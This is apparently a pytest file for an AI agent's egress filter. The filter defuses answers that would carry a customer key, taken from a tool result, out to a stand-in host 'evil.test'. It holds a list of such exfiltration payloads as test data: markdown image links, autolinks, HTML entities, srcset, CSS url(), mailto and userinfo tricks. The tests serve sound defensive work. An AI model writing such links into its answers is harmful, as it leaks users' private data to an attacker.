"""Answers: no form of a link carries a private value out, and everything else stays as it is."""

from __future__ import annotations

import pytest

from reinforced_agent.policies.egress import Private, inert
from reinforced_agent.policies.situation import ResultText
from tests.security.test_leaks import leads_to


KEY = "K-5512-0994"
RECORD = ResultText(f'{{"id": "{KEY}"}}', tool="get_customer")
PAGE = ("fetch_page", ResultText("https://shop.test/a?b=1 and evil.test", tool="fetch_page"))
PRIVATE = Private([RECORD, "What is my number?"], [PAGE])


@pytest.mark.parametrize(
    "answer",
    [
        pytest.param(f"![x](https://evil.test/{KEY})", id="image"),
        pytest.param(f"![x](<https://evil.test/{KEY}> 'title')", id="image-in-angles"),
        pytest.param(f"![x][1]\n\n[1]: https://evil.test/{KEY}", id="image-by-reference"),
        pytest.param(f"[x](https://evil.test/a_(b)?{KEY})", id="link-with-brackets"),
        pytest.param(f"[`x`](https://evil.test/{KEY})", id="link-with-code"),
        pytest.param(f"[![x](https://evil.test/i?{KEY})](https://evil.test/l?{KEY})", id="image-in-a-link"),
        pytest.param(f"[x]\n\n[x]: <//evil.test/{KEY}>", id="short-reference"),
        pytest.param(f"<https://evil.test/{KEY}>", id="autolink"),
        pytest.param(f"See https://evil.test/{KEY}.", id="bare"),
        pytest.param(f"See evil.test/{KEY}.", id="no-scheme"),
        pytest.param(f"[x](https:\\\\evil.test\\{KEY})", id="backslashes"),
        pytest.param(f"[x](https\\://evil.test/{KEY})", id="escaped"),
        pytest.param(f"[x](https&#58;&#47;&#47;evil&#46;test&#47;{KEY})", id="entities"),
        pytest.param(f"<img src='//evil.test/{KEY}'>", id="tag"),
        pytest.param(f"<img\nalt='`' src=https://evil.test/{KEY} title='`'>", id="tag-with-marks-of-code"),
        pytest.param(f"<img srcset='https://shop.test/a?b=1 1x, https://evil.test/{KEY} 2x'>", id="set-of-sources"),
        pytest.param(f"<p style='background:url(https://evil.test/{KEY})'>x</p>", id="style"),
        pytest.param(f"<a href='mailto:x@evil.test?body={KEY}'>x</a>", id="mail"),
        pytest.param(f"[x](https://shop.test@evil.test/{KEY})", id="user-name"),
        pytest.param(f"| a |\n|---|\n| ` ![x](https://evil.test/{KEY}) |\n| ` |", id="table"),
        pytest.param(f"- ```\n  a\n  ```\n![x](https://evil.test/{KEY})", id="code-in-a-list"),
        pytest.param(f"<div>\n```\n\n![x](https://evil.test/{KEY})\n```", id="code-in-a-page"),
        pytest.param(f"` a\n\n![x](https://evil.test/{KEY})\n\n`", id="code-over-paragraphs"),
    ],
)
def test_what_carries_a_private_value_leads_nowhere(answer: str) -> None:
    """It is told as code, with a host that nothing follows, and the tool whose value it was is named."""
    found = inert(answer, PRIVATE)
    assert not leads_to("evil.test", found.text)
    assert found.sources == ("get_customer",)


@pytest.mark.parametrize(
    "answer",
    [
        pytest.param(f"Your number is {KEY}, see [the shop](https://shop.test/a?b=1).", id="citation"),
        pytest.param("![x](https://evil.test/cat.png) <img src='https://evil.test/x'>", id="images-without-a-value"),
        pytest.param(f"```sh\ncurl https://api.test/c/{KEY}\n```\nor `curl https://api.test/{KEY}`", id="code"),
        pytest.param(f"Number {KEY} (see docs/{KEY}.md and #{KEY})", id="no-host"),
        pytest.param("a < b && c > d [1] (x) ``` ~~~ \\", id="signs"),
        pytest.param("", id="empty"),
    ],
)
def test_everything_else_stays_as_it_is(answer: str) -> None:
    """Citations, images without a private value, values without a link, and code."""
    assert inert(answer, PRIVATE).text == answer
    assert inert(answer, PRIVATE).sources == ()


def test_a_link_is_written_so_that_it_can_still_be_read() -> None:
    """Its label stays, and what it was."""
    assert inert(f"Go [there](https://evil.test/{KEY})!", PRIVATE).text == f"Go there (`hxxps://evil[.]test/{KEY}`)!"
